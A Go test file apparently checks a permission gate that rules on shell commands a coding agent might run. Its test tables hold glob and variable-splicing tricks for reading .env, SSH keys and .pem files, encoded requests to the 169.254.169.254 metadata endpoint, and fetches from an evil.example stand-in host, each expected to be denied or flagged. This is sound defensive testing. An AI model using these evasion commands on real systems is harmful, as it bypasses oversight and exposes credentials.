package conformance

import (
	"strings"
	"testing"

	"github.com/permgate--owner/permgate/hookio"
)

// A globRow is a shell text and what deny rules about reading make of it.
type globRow struct {
	text string
	want string // "deny", "could" for an ask because a rule could match, "asks" for another one of step 2, "free"
}

const globDeny = `{"permissions":{"deny":["Read(.env)","Read(*.pem)","Read(./secrets/**)","Read(~/.ssh/**)","Edit(gen/**)","Edit(*.lock)",` +
	`"WebFetch(domain:169.254.169.254)","WebFetch(domain:*.evil.example)"]}}`

// globFiles is the project of the rows.
var globFiles = [...]string{
	".env", "README.md", "README.txt", "main.go", "keys/server.pem", "keys/server.crt", "certs/a.crt", "secrets/a.txt", "src/a.ts", "src/b.ts", "gen/x.ts",
	"data/one.json", "data/two.json", "data/.env.example", "locks/yarn.lock", "locks/readme",
}

func globCall(t *testing.T, text, settings string) (string, string) {
	t.Helper()
	files := map[string]string{"/home/dev/.gen/settings.json": settings, "/home/dev/.ssh/id_rsa": ""}
	for _, name := range globFiles {
		files["/work/project/"+name] = ""
	}
	_, v := call(t, Setup{
		Tool: "Bash", Input: []byte(`{"command":` + quote(text) + `}`), Mode: "bypassPermissions", Settings: files,
		Symlinks: map[string]string{"/work/project/links/plain": "/work/project/.env", "/work/project/out/o": "/etc/passwd"},
	})
	switch {
	case v.Decision() == hookio.Deny:
		return "deny", v.Reason()
	case v.Decision() == hookio.Ask && strings.Contains(v.Reason(), "could-match"):
		return "could", v.Reason()
	case v.Step() == "2":
		return "asks", v.Reason()
	}
	return "free", v.Reason()
}

func runGlobs(t *testing.T, rows []globRow) {
	t.Helper()
	for _, row := range rows {
		if got, why := globCall(t, row.text, globDeny); got != row.want {
			t.Errorf("%s: %s, want %s: %s", row.text, got, row.want, why)
		}
	}
}

// TestGlobsOnDisk: what a pattern finds decides, as far as it is certain that it
// will find the same when the text runs.
func TestGlobsOnDisk(t *testing.T) {
	runGlobs(t, []globRow{
		// a bracket pattern that a value opens or closes
		{"x='v]'; cat .en[$x", "deny"}, {"x='.e[n'; cat ${x}]v", "deny"}, {"x='.en['; y='v]'; cat $x$y", "deny"},
		{"x='[a]'; cat x$x", "free"}, {"x='['; cat a$x", "free"},
		{"cat README*", "free"}, {"cat *", "free"}, {"cat data/*", "free"}, {"cat ./*.md src/*.ts", "free"}, {"grep -n x certs/a*", "free"},
		{"cat .e*", "deny"}, {"cat .*", "deny"}, {"cat .en[v]", "deny"}, {"cat .???", "deny"}, {"cat ./.e*", "deny"}, {"cat /work/project/.e*", "deny"},
		{"cat [.]env", "free"}, {"cat ?env", "free"}, {"cat *env", "free"}, {`cat \.e*`, "deny"}, {"cat '.e'*", "deny"},
		{"cat keys/*", "deny"}, {"cat k*/*", "deny"}, {"cat */s*", "deny"}, {"cat keys/*.crt", "free"}, {"cat */server.p?m", "deny"}, {"head -1 keys/s*", "deny"},
		{"cat links/p*", "deny"}, {"cat l*/*", "deny"}, {"cat ~/.ssh/id_*", "deny"}, {"cat ~/.ss*/id_rsa", "deny"}, {"cat sec*/*", "deny"}, {"cat s*/a*", "deny"},
		{"cat none*", "free"}, {"cat none/*", "free"}, {"cat none/.en?", "could"}, {"cat none/*.p*", "could"}, {"cat gone*", "free"}, {"cat none/*.pem", "deny"}, {"cat keys/../.e*", "deny"}, {"cat data/.e*", "free"},
		{"cd data && cat *", "free"}, {"cd keys; cat *", "deny"}, {"ls; cat README*; wc -l main.go", "free"}, {"cat README* | head -3 2>/dev/null", "free"},
		{"set -euo pipefail; cat R*", "free"}, {"D=data; cat $D/*", "free"}, {"for i in 1 2; do cat R*; done", "free"}, {"if true; then cat R*; fi; touch x", "free"},
		{"cp keys/* /tmp/", "deny"}, {"mv keys/* x/", "deny"}, {"tar cf x.tar keys/*", "deny"}, {"rm keys/*", "deny"}, {"cp data/* /tmp/", "free"},
		{"touch x; cat R*", "could"}, {"touch .env; cat R*", "deny"}, {"cat R* | tee x", "could"}, {"cp /opt/x Rz & cat R*", "could"}, {"(sleep 1; cat R*) & cp /opt/x Rz", "could"},
		{"for i in 1 2; do cat R*; cp /opt/x Rz; done", "could"}, {"cat $(cp /opt/x Rz) R*", "could"}, {"make; cat R*", "could"}, {"echo a > Rz; cat R*", "could"},
		{"shopt -s nocaseglob; cat R*", "asks"}, {"set -f; cat R*", "could"}, {"GLOBIGNORE=x; cat R*", "could"}, {"bash -O dotglob -c 'cat R*'", "could"},
		{"f() { cat R*; }; cp /opt/x Rz; f", "could"}, {"diff <(cat R*) <(cp /opt/x Rz)", "could"}, {"cat [[.R.]]*", "could"}, {"cat \"$x\"/*.go", "free"},
	})
}

// TestGlobsOfDots: what starts with a dot finds the folder itself and the one
// above it in a shell that is older than bash 5.2.
func TestGlobsOfDots(t *testing.T) {
	const deny = `{"permissions":{"deny":["Read(/keys/a.crt)","Read(/secrets/**)"]}}`
	for text, want := range map[string]string{
		"cat .*/secrets/a.txt": "deny", "cat .?/project/secrets/a.txt": "deny", "cd data && cat .*/secrets/*": "deny", "cat data/.*/secrets/a*": "deny",
		"cat .*/data/one.json": "free", "cat .a*/secrets/a.txt": "free", "cat .*": "free", "cat *.*/secrets/a.txt": "free",
	} {
		if got, why := globCall(t, text, deny); got != want {
			t.Errorf("%s: %s, want %s: %s", text, got, want, why)
		}
	}
}

// TestGlobsOfWrites: writes through a pattern are held against rules about
// writing, and where they are found to lead.
func TestGlobsOfWrites(t *testing.T) {
	runGlobs(t, []globRow{
		{"rm locks/*", "deny"}, {"rm locks/r*", "free"}, {"rm g*/*", "deny"}, {"touch src/*", "free"}, {"touch a; rm s*", "could"}, {"make; rm -f restore.db*", "could"},
		{"sed -i s/a/b/ locks/*", "deny"}, {"sed -i s/a/b/ src/*", "free"}, {"chmod +x data/*", "free"}, {"rm keys/*.pem", "deny"},
		{"t=$(mktemp -d /tmp/a-XXXXXX); git clone https://x.example/y \"$t\"", "free"}, {"mktemp gen/XXXX.lock", "deny"}, {"mktemp XXXX.lock", "could"},
		{"cp data/* src/", "free"}, {"mv data/t* src", "free"}, {"cp locks/* src/", "deny"}, {"mv locks/r* gen/", "deny"}, {"cp data/* \"$x\"/", "free"}, {"cp -b data/* src/", "could"},
	})
	_, v, err := Call(Setup{
		Tool: "Bash", Input: []byte(`{"command":"sed -i s/a/b/ out/*"}`), Settings: map[string]string{"/home/dev/.gen/settings.json": `{"permissions":{"allow":["Bash"]}}`},
		Symlinks: map[string]string{"/work/project/out/o": "/opt/x"},
	})
	if err != nil || v.Decision() != hookio.Ask || v.Step() != "3b" {
		t.Errorf("a link that leads out of the project: %v %s: %s (%v)", v.Decision(), v.Step(), v.Reason(), err)
	}
}

// TestSilentPrograms: what prints nothing of the files is not bound by rules about
// reading through a folder or pattern, but by name, and by rules about writing.
func TestSilentPrograms(t *testing.T) {
	runGlobs(t, []globRow{
		{"ls README*", "free"}, {"ls .e*", "free"}, {"ls -la *", "free"}, {"ls *.pem", "free"}, {"touch x; ls R*", "free"}, {"wc -l keys/*", "free"}, {"ls .env", "deny"},
		{"ls secrets/*", "deny"}, {"ls -d */", "free"}, {"git add *", "free"}, {"git add .", "free"}, {"git add -A", "free"}, {"git add keys/*", "free"}, {"git add .env", "deny"},
		{"git add -p keys/*", "deny"}, {"git add -f keys/*", "deny"}, {"git add -e keys/*", "deny"}, {"git add secrets/*", "deny"},
		{"eslint --fix .", "could"},
		{"golangci-lint run --fix=false ./...", "free"}, {"golangci-lint run ./...", "free"}, {"gofmt -l .", "free"},
		{"prettier --write keys/*", "free"}, {"black keys/*", "free"}, {"black --diff keys/*", "deny"}, {"gofmt keys/*", "deny"}, {"gofmt -l keys/*", "free"}, {"gofmt -d keys/*", "deny"},
		{"prettier --write .env", "deny"}, {"prettier --write secrets", "deny"}, {"prettier --write secrets/*", "deny"}, {"black --unknown keys/*", "deny"},
		{"prettier --write gen", "deny"}, {"prettier --write g*", "deny"}, {"find keys/* -name x", "free"}, {"du -sh *", "free"}, {"stat *", "free"},
		{"cat < keys/*", "deny"}, {"cat < R*.md", "free"},
	})
}

// TestInPlace: what changes files of its own kind below a folder takes none of
// them anywhere; a rule about writing there still counts.
func TestInPlace(t *testing.T) {
	reading := strings.Replace(globDeny, `"Edit(gen/**)","Edit(*.lock)",`, "", 1)
	for _, text := range []string{
		"prettier --write .", "prettier -w .", "black .", "ruff format", "ruff check --fix .", "eslint --fix .", "isort .", "gofmt -w .", "biome check --write .",
		"golangci-lint run --fix ./...", "shfmt -w .", "cd src && prettier --write .", "ruff format .", "npx prettier --write .", "uv run ruff format",
	} {
		if got, why := globCall(t, text, reading); got != "free" {
			t.Errorf("%s: %s: %s", text, got, why)
		}
	}
	runGlobs(t, []globRow{{"prettier --write .", "could"}, {"black .", "could"}, {"ruff format", "could"}, {"prettier --write . --unknown", "could"}, {"mv . x", "could"}})
}

// TestRecursiveReads: a folder is bound by a rule that covers it, and by one for
// names inside it where the program is told to look for them.
func TestRecursiveReads(t *testing.T) {
	runGlobs(t, []globRow{
		{"grep -r x .", "free"}, {"rg foo", "free"}, {"rg --hidden foo", "free"}, {"ls -R", "free"}, {"tree", "free"}, {"find . -name '*.go'", "free"}, {"ag x", "free"},
		{"grep -r x secrets", "deny"}, {"rg x secrets/", "deny"}, {"grep -r x ~/.ssh", "deny"}, {"tar cf a.tar secrets", "deny"}, {"grep -r x secrets/sub", "deny"},
		{"find . -name .env", "deny"}, {"find . -name '.e*'", "could"}, {"find . -iname .ENV", "deny"}, {"find . -name '.env*'", "could"}, {"find src -name server.pem", "deny"},
		{"find . -path '*/keys/*.pem'", "deny"}, {"find . -regex '.*\\.pem'", "deny"}, {"find . ! -name .env -type f", "free"}, {"find . -name .env -prune -o -print", "free"},
		{"find . -not \\( -name .env -o -name x \\)", "free"}, {"find . -name '*'", "free"}, {"find . -name 'main.*'", "free"}, {"find . -name 'test_*'", "free"},
		{"find . -type f -name '*.p*'", "could"}, {"find . -name x -o -name .env", "deny"}, {"find . -name '.*'", "free"}, {"find . -name .env.example", "free"},
		{"grep -rn --include='*.pem' KEY .", "deny"}, {"grep -rn --include=.env x .", "deny"}, {"grep -rn --include '.e*' x .", "could"}, {"grep -rn --include='*.go' x .", "free"},
		{"grep -rn --include=*.{pem,go} x .", "deny"}, {"grep -rn --exclude=.env x .", "free"}, {"grep --include=.env x main.go", "free"},
		{"rg -g .env x", "deny"}, {"rg -g '*.pem' x", "deny"}, {"rg -g '!.env' x", "free"}, {"rg -g '*.ts' x", "free"}, {"rg --iglob '*.PEM' x", "deny"}, {"rg --files -g '*.pem'", "deny"},
		{`fd -H '^\.env$'`, "deny"}, {"fd env", "free"}, {"fd -H env", "could"}, {"fd -e pem", "deny"}, {"fd -e go", "free"}, {"fd -H -g '.e*'", "could"}, {"fd main", "free"},
	})
}

// TestKnownHosts: a word that is a host or a path is not some URL.
func TestKnownHosts(t *testing.T) {
	runGlobs(t, []globRow{
		{"git ls-remote git@github.com:a/b.git", "free"}, {"git clone git@github.com:a/b.git", "free"}, {"git fetch origin", "free"}, {"git clone ../other", "free"},
		{"git clone ssh://git@github.com/a/b.git", "free"}, {"git push origin main", "free"}, {"scp host:x y", "free"}, {"rsync -a host:x y", "free"}, {"git clone /srv/x.git", "free"},
		{"curl localhost:3000/x", "free"}, {"curl -s http://127.0.0.1:8080/", "free"}, {"docker pull alpine:3.19", "free"},
		{"git ls-remote git@169.254.169.254:a/b.git", "deny"}, {"git clone ssh://x.evil.example/a", "deny"}, {"git clone git@x.evil.example:a", "deny"},
		{"curl 169.254.169.254:80/latest", "deny"}, {"curl 2852039166/latest", "deny"}, {"curl user@169.254.169.254/x", "deny"}, {"curl gopher://169.254.169.254:80/_x", "deny"},
		{"scp x.evil.example:x .", "deny"}, {"curl http:169.254.169.254/x", "could"}, {"curl x:y@z@169.254.169.254/", "deny"},
		{`curl "http://169.254.169.254/$x"`, "deny"}, {`curl "https://api.example/$x"`, "free"}, {`curl "https://$x.evil.example/"`, "free"},
	})
}

// TestGlobOption: a pattern that may find a file named like an option is covered
// by no pattern rule, and the disk says whether it does.
func TestGlobOption(t *testing.T) {
	for _, tt := range []struct {
		command, file string
		want          hookio.Decision
	}{
		{"git add *", "a.go", hookio.Allow},
		{"git add *", "-x.go", hookio.Ask},
		{"git add *", "--exec=x", hookio.Ask},
		{"git add [a-z]*", "b", hookio.Allow},
		{"touch -- -x; git add *", "a.go", hookio.Ask},
		{"cd sub && git add *", "sub/-x", hookio.Ask},
		{"git add src/*", "src/-x", hookio.Allow},
		{"git add $x", "a.go", hookio.Ask},
		{"git add * $x", "a.go", hookio.Ask},
	} {
		_, v, err := Call(Setup{Tool: "Bash", Input: shell(tt.command), Mode: "default", Settings: map[string]string{
			"/work/project/" + tt.file:     "",
			"/work/project/sub/a":          "",
			"/home/dev/.gen/settings.json": `{"permissions":{"allow":["Bash(git add:*)","Bash(touch:*)","Bash(cd:*)"]}}`,
		}})
		if err != nil || v.Decision() != tt.want {
			t.Errorf("%s with %s: %v, want %v (step %s: %s)", tt.command, tt.file, v.Decision(), tt.want, v.Step(), v.Reason())
		}
	}
}
